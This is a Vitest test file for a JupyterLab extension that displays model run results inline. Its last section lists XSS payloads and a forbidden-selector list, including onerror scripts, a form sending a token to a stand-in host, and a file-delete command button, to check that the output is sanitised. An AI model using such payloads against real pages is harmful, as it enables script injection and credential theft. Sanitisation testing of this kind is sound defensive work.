import { describe, expect, it, vi } from 'vitest';

import { RUN_MIME_TYPE } from '../../src/tokens';
import { addPanel, bundle, hasLink, output, RUN_ID, span } from './outputs';

function open(details: HTMLDetailsElement): void {
  details.open = true;
  details.dispatchEvent(new Event('toggle'));
}

async function shown(run: Record<string, unknown>, html = ''): Promise<HTMLElement> {
  const { node, show } = output(RUN_MIME_TYPE);
  await show({ [RUN_MIME_TYPE]: run, 'text/html': html, 'text/plain': 'in plain text' });
  return node;
}

describe('a finished run in the output of a cell', () => {
  it('tells question, figures and answer', async () => {
    const node = await shown(bundle());
    expect(node.querySelector('.jp-rlm-Inline-question')?.textContent).toBe(
      'Which contract ends first?'
    );
    expect(node.querySelector('.jp-rlm-Inline-facts')?.textContent).toBe(
      'answered · gpt-5-mini · 2 iterations · 10 sub-calls · 41.2k in, 3.8k out · $0.013 · 12.4 s'
    );
    expect(node.querySelector('.jp-rlm-Inline-answer')?.textContent).toBe('The **first** one.');
  });

  it('groups the digits of large numbers, as the panel does', async () => {
    const spans = [span('run', null, 'run')];
    const node = await shown(bundle({ subcalls: 12_345, spans, spans_left_out: 1_999 }));
    expect(node.querySelector('.jp-rlm-Inline-facts')?.textContent).toContain('12,345 sub-calls');
    expect(node.querySelector('summary')?.textContent).toBe('2,000 steps');
  });

  it('tells an answer for want of iterations from others', async () => {
    const node = await shown(bundle({ out_of_iterations: true }));
    expect(node.querySelector('.jp-rlm-Inline-facts')?.textContent).toMatch(
      /^out of iterations, answered with what it had · gpt-5-mini/
    );
    expect(node.querySelector('.jp-rlm-Inline-dot')).toHaveProperty('dataset.status', 'limit');
  });

  it('leaves out what nobody knows', async () => {
    const usage = { calls: 1, input_tokens: null, output_tokens: null, cost: null };
    const node = await shown(bundle({ usage, subcalls: 0, ended: null }));
    expect(node.querySelector('.jp-rlm-Inline-facts')?.textContent).toBe(
      'answered · gpt-5-mini · 2 iterations'
    );
  });

  it('tells what went wrong before the answer that it had', async () => {
    const error = { name: 'BudgetExceeded', message: 'It costs $0.11.' };
    const node = await shown(bundle({ status: 'limit', error }));
    expect(node.querySelector('.jp-rlm-Inline-error')?.textContent).toBe(
      'BudgetExceeded: It costs $0.11.'
    );
    expect(node.textContent).toContain('What it had so far:');
  });

  it('opens in the panel, where there is one', async () => {
    const openRun = vi.fn();
    const { node, show } = output(RUN_MIME_TYPE, openRun);
    await show({ [RUN_MIME_TYPE]: bundle() });
    node.querySelector('button')?.click();
    expect(openRun).toHaveBeenCalledExactlyOnceWith(RUN_ID);
    const alone = output(RUN_MIME_TYPE);
    await alone.show({ [RUN_MIME_TYPE]: bundle() });
    expect(hasLink(alone.node)).toBe(false);
    addPanel(alone.commands, openRun);
    expect(hasLink(alone.node)).toBe(true);
  });

  it('shows the plain text of what a later version wrote', async () => {
    const node = await shown(bundle({ version: 2 }));
    expect(node.textContent).toBe('in plain text');
  });
});

describe('its steps', () => {
  const calls = Array.from({ length: 9 }, (_, index) => span(`call ${index}`, 'code', 'subcall'));
  const spans = [
    span('run', null, 'run', { ended: 110 }),
    span('iteration', 'run', 'iteration'),
    span('code', 'iteration', 'code'),
    ...calls,
    span('failed', 'code', 'subcall', { status: 'error', started: 105, ended: 110 })
  ];

  function names(node: Element): (string | null)[] {
    return [...node.querySelectorAll('.jp-rlm-Inline-name')].map(name => name.textContent);
  }

  it('unfold, with many alike calls in one row and failed ones outside of it', async () => {
    const node = await shown(bundle({ spans }));
    expect(names(node)).toEqual([]);
    open(node.querySelector('details')!);
    expect(names(node)).toEqual(['run', 'iteration']);
    for (const name of ['iteration', 'code']) {
      const row = [...node.querySelectorAll<HTMLElement>('summary .jp-rlm-Inline-row')];
      open(row.find(one => one.title === name)!.closest('details')!);
    }
    expect(names(node)).toEqual(['run', 'iteration', 'code', '9 sub-calls', 'failed']);
    const failed = [...node.querySelectorAll<HTMLElement>('[data-status="error"]')].at(-1)!;
    const bar = failed.querySelector<HTMLElement>('.jp-rlm-Inline-bar')!;
    expect([bar.style.left, bar.style.width]).toEqual(['50%', '50%']);
  });

  it('come with their code, from the HTML in the same bundle', async () => {
    const html =
      '<div class="rlm-run"><p>It.</p><details><summary>s</summary><div><details><summary>Iteration 1</summary>' +
      '<pre style="display:none"><code>1 + 1</code></pre></details></div></details></div>';
    const node = await shown(bundle(), html);
    open(node.querySelector('details')!);
    const host = node.querySelector('.jp-rlm-Inline-summary')!;
    await vi.waitFor(() => expect(host.querySelector('pre')?.textContent).toBe('1 + 1'));
    expect(host.querySelector('summary')?.textContent).toBe('Iteration 1');
    expect(host.querySelector('[style]')).toBeNull();
  });

  it.each([
    ['a parent that comes later', [span('b', 'a', 'code'), span('a', 'b', 'code')]],
    ['a span that is its own parent', [span('a', 'a', 'code'), span('b', 'a', 'code')]],
    ['ids twice', [span('a', null, 'run'), span('a', 'a', 'run'), span('a', 'a', 'run')]],
    ['no objects', [null, 1, 'a', [], span('a', null, 'run')]]
  ])('are shown whatever a notebook holds: %s', async (_, odd) => {
    const node = await shown(bundle({ spans: odd }));
    open(node.querySelector('details')!);
    expect(names(node).length).toBeGreaterThan(0);
  });
});

describe('what a model or a notebook puts into it', () => {
  const hostile = [
    '<script>window.hit = 1</script>',
    '<img src="https://elsewhere.example/?secret" onerror="window.hit = 1">',
    '<a href="javascript:window.hit = 1">x</a>',
    '<svg onload="window.hit = 1"><style>*{display:none}</style></svg>',
    '<form action="https://elsewhere.example"><input name="token"><button>Go</button></form>',
    '<button data-commandlinker-command="filebrowser:delete">x</button>',
    '<div class="jp-Dialog" style="position:fixed;inset:0" id="main">x</div>',
    '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
    '<video src="https://elsewhere.example/v" autoplay></video>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.hit = 1">'
  ];
  const forbidden =
    'script, img, svg, style, form, input, iframe, video, math, [style], [id], [onerror], [onload], ' +
    '[data-commandlinker-command], [href^="javascript:"], .jp-Dialog';

  it.each(hostile)('is no more than text in an answer: %s', async payload => {
    const node = await shown(bundle({ answer: payload }));
    const answer = node.querySelector('.jp-rlm-Inline-answer')!;
    expect(answer.querySelectorAll(forbidden)).toHaveLength(0);
    expect(answer.querySelector('button')).toBeNull();
  });

  it.each(hostile)('is no more than text in every field, and in the steps: %s', async payload => {
    const node = await shown(
      bundle({
        question: payload,
        model: payload,
        answer: null,
        answer_left_out: payload,
        error: { name: payload, message: payload },
        spans: [span('a', null, payload, { name: payload })]
      }),
      `<div class="rlm-run"><details><summary>s</summary><div><p>steps</p>${payload}</div></details></div>`
    );
    node.querySelectorAll('details').forEach(open);
    await vi.waitFor(() => expect(node.textContent).toContain('steps'));
    const made = '.jp-rlm-Inline-bar, .jp-rlm-Inline-row';
    const found = [...node.querySelectorAll(forbidden)].filter(one => !one.matches(made));
    expect(found).toHaveLength(0);
    expect(node.querySelector('.jp-rlm-Inline-question')?.textContent).toBe(payload);
    expect(window).not.toHaveProperty('hit');
  });

  it.each([null, 1, 'text', [], { version: 1 }, { version: 1, spans: {}, usage: [], error: 1 }])(
    'may be of any shape: %j',
    async value => {
      const { node, show } = output(RUN_MIME_TYPE);
      await show({ [RUN_MIME_TYPE]: value });
      expect(hasLink(node)).toBe(false);
    }
  );
});
